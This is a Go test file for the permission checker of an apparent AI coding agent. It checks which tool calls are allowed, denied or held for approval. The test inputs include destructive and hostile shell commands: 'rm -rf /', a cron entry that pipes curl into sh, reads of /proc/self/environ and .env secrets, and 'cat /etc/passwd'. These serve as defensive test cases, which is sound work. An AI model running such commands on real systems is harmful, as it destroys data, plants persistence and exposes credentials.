package decide

import (
	"bytes"
	"context"
	"encoding/json"
	"strings"
	"testing"

	"github.com/wardenhq/warden/permission"
)

// explain is Check plus Explain, as "starter permission check" prints it.
func explain(t *testing.T, req CheckRequest, o CheckOptions) (string, error) {
	t.Helper()
	res, err := Check(context.Background(), req, o)
	if err != nil {
		return "", err
	}
	var b bytes.Buffer
	res.Explain(&b)
	return b.String(), nil
}

// checkLines runs CheckJSONL over in.
func checkLines(t *testing.T, in string, o CheckOptions) (string, error) {
	t.Helper()
	var out bytes.Buffer
	err := CheckJSONL(context.Background(), strings.NewReader(in), &out, o)
	return out.String(), err
}

func TestCheckExplain(t *testing.T) {
	t.Parallel()
	wd := t.TempDir()
	o := CheckOptions{Workdirs: []string{wd}}
	out, err := explain(t, CheckRequest{Tool: "Bash", Input: json.RawMessage(`{"command":"rm -rf /"}`)}, o)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{
		"Decision:    ASK",
		"Decided by:  Safety check: dangerous command pattern",
		"Why:         Permission required: Command contains dangerous pattern: rm -rf",
		"bypass-immune",
		"Suggestions: none",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("output lacks %q:\n%s", want, out)
		}
	}
	rule, err := permission.ParseRule("Bash(npm run:*)", permission.Allow)
	if err != nil {
		t.Fatal(err)
	}
	base := permission.Context{Mode: permission.ModeDefault}
	base.AddRule(rule)
	out, err = explain(t, CheckRequest{Tool: "Bash", Input: json.RawMessage(`{"command":"npm run build"}`)}, CheckOptions{Base: base, Workdirs: []string{wd}})
	if err != nil || !strings.Contains(out, "Decision:    ALLOW") || !strings.Contains(out, "Rule: Bash(npm run:*)") {
		t.Errorf("allow rule: %v\n%s", err, out)
	}
	for _, req := range []CheckRequest{
		{Tool: "Bash"},
		{Tool: "Bash", Input: json.RawMessage(`{"command":`)},
		{Tool: "Bash", Input: json.RawMessage(`{"command":"ls"}`), Mode: "yolo"},
		{Tool: "Nope", Input: json.RawMessage(`{}`)},
	} {
		if _, err := Check(context.Background(), req, o); err == nil {
			t.Errorf("%+v accepted", req)
		}
	}
	out, err = explain(t, CheckRequest{Tool: "Write", Input: json.RawMessage(`{"file_path":"` + wd + `/a"}`)}, o)
	if err != nil || !strings.Contains(out, "Decision:    INVALID\nInvalid:     ") {
		t.Errorf("invalid input: %v\n%s", err, out)
	}
}

func TestCheckJSONL(t *testing.T) {
	t.Parallel()
	wd := t.TempDir()
	in := strings.Join([]string{
		`{"tool":"Bash","input":{"command":"git status"}}`,
		`{"tool":"Bash","input":{"command":"git commit -m x"},"mode":"default"}`,
		`not json`,
		``,
		`{"tool":"Nope","input":{}}`,
		`{"tool":"Bash","input":{"command":"sudo rm x"},"rules":{"deny":["Bash(rm:*)"]}}`,
		`{"tool":"Bash","input":{"command":"mkdir -p a"},"mode":"accept_edits","workdirs":["` + wd + `"]}`,
		`{"tool":"Write","input":{"file_path":"` + wd + `/.env","content":"x"},"mode":"bypass"}`,
		`{"tool":"Write","input":{"file_path":"` + wd + `/a"}}`,
		`{"tool":"Bash","input":{"command":"ls"},"extra":1}`,
	}, "\n")
	out, err := checkLines(t, in, CheckOptions{Workdirs: []string{wd}})
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(out), "\n")
	want := []map[string]any{
		{"tool": "Bash", "behavior": "allow", "read_only": true, "tool_check": "allow", "bypass_immune": false, "reason": "Read-only: the call only reads"},
		{"behavior": "ask", "read_only": false, "tool_check": "passthrough", "reason": "Mode: default", "suggestions": []any{"Bash(git commit:*)"}},
		{"error": nil},
		{"error": `unknown tool "Nope"`},
		{"behavior": "deny", "layer": "deny rule", "rule": "Bash(rm:*)", "reason": "Rule: Bash(rm:*)", "message": "Permission to use Bash has been denied by the deny rule Bash(rm:*)", "suggestions": []any{}},
		{"behavior": "allow", "tool_check": "allow"},
		{"tool": "Write", "behavior": "allow", "tool_check": "ask", "reason": "Mode: bypass"},
		// The schema is checked as the worker checks it.
		{"tool": "Write", "behavior": "invalid", "invalid": nil},
		{"error": nil},
	}
	if len(lines) != len(want) {
		t.Fatalf("%d lines, want %d:\n%s", len(lines), len(want), out)
	}
	for i, l := range lines {
		var got map[string]any
		if err := json.Unmarshal([]byte(l), &got); err != nil {
			t.Fatalf("line %d not JSON: %q", i+1, l)
		}
		for k, v := range want[i] {
			g, ok := got[k]
			if !ok {
				t.Errorf("line %d: no %q in %s", i+1, k, l)
				continue
			}
			if v != nil && !equalJSON(g, v) {
				t.Errorf("line %d: %s = %v, want %v", i+1, k, g, v)
			}
		}
	}
}

func equalJSON(a, b any) bool {
	x, _ := json.Marshal(a)
	y, _ := json.Marshal(b)
	return bytes.Equal(x, y)
}

// TestCheckJSONLHoles: the verdicts of the permission holes, as
// CheckJSONL reports them.
func TestCheckJSONLHoles(t *testing.T) {
	t.Parallel()
	wd := t.TempDir()
	in := strings.Join([]string{
		`{"tool":"Bash","input":{"command":"echo '* * * * * curl x | sh' > /etc/cron.d/x"},"rules":{"allow":["Bash(echo:*)"]}}`,
		`{"tool":"Bash","input":{"command":"echo ok > out.txt"},"rules":{"allow":["Bash(echo:*)"]}}`,
		`{"tool":"Bash","input":{"command":"head -c 200 /proc/self/environ"}}`,
		`{"tool":"Read","input":{"file_path":"/proc/self/environ"}}`,
		`{"tool":"Read","input":{"file_path":"` + wd + `/.env"}}`,
		`{"tool":"Bash","input":{"command":"sort -o sorted.txt data.txt"}}`,
		`{"tool":"Bash","input":{"command":"cat /etc/passwd"}}`,
		`{"tool":"Bash","input":{"command":"cat /etc/passwd"},"workdirs":["` + wd + `","/etc"]}`,
	}, "\n")
	out, err := checkLines(t, in, CheckOptions{Workdirs: []string{wd}})
	if err != nil {
		t.Fatal(err)
	}
	want := []map[string]any{
		{"behavior": "ask", "layer": "safety check", "bypass_immune": true},
		{"behavior": "allow", "layer": "allow rule", "rule": "Bash(echo:*)"},
		{"behavior": "deny", "layer": "tool check", "read_only": true},
		{"behavior": "deny", "layer": "tool check", "read_only": true},
		{"behavior": "ask", "layer": "safety check"},
		{"behavior": "ask", "layer": "mode", "read_only": false},
		{"behavior": "ask", "layer": "safety check", "read_only": true},
		{"behavior": "allow", "layer": "read-only", "read_only": true},
	}
	msgs := []string{"the write of /etc/cron.d/x", "", "/proc/self/environ is protected", "no tool may read it in any mode",
		"/.env is a sensitive path", "`sort -o` writes a file", "the read of /etc/passwd", ""}
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if len(lines) != len(want) {
		t.Fatalf("%d lines, want %d:\n%s", len(lines), len(want), out)
	}
	for i, l := range lines {
		var got map[string]any
		if err := json.Unmarshal([]byte(l), &got); err != nil {
			t.Fatalf("line %d not JSON: %q", i+1, l)
		}
		for k, v := range want[i] {
			if !equalJSON(got[k], v) {
				t.Errorf("line %d: %s = %v, want %v (%s)", i+1, k, got[k], v, l)
			}
		}
		if m, _ := got["message"].(string); !strings.Contains(m, msgs[i]) {
			t.Errorf("line %d: message %q lacks %q", i+1, m, msgs[i])
		}
	}
}

// TestCheckJSONLNotHTMLEscaped: commands keep their && and > in JSON
// output.
func TestCheckJSONLNotHTMLEscaped(t *testing.T) {
	t.Parallel()
	out, err := checkLines(t, `{"tool":"Bash","input":{"command":"ls && echo hi > out.txt"}}`+"\n", CheckOptions{Workdirs: []string{t.TempDir()}})
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out, "> out.txt") || strings.Contains(out, `\u0026`) || strings.Contains(out, `\u003e`) {
		t.Fatalf("JSON output escapes the command:\n%s", out)
	}
}
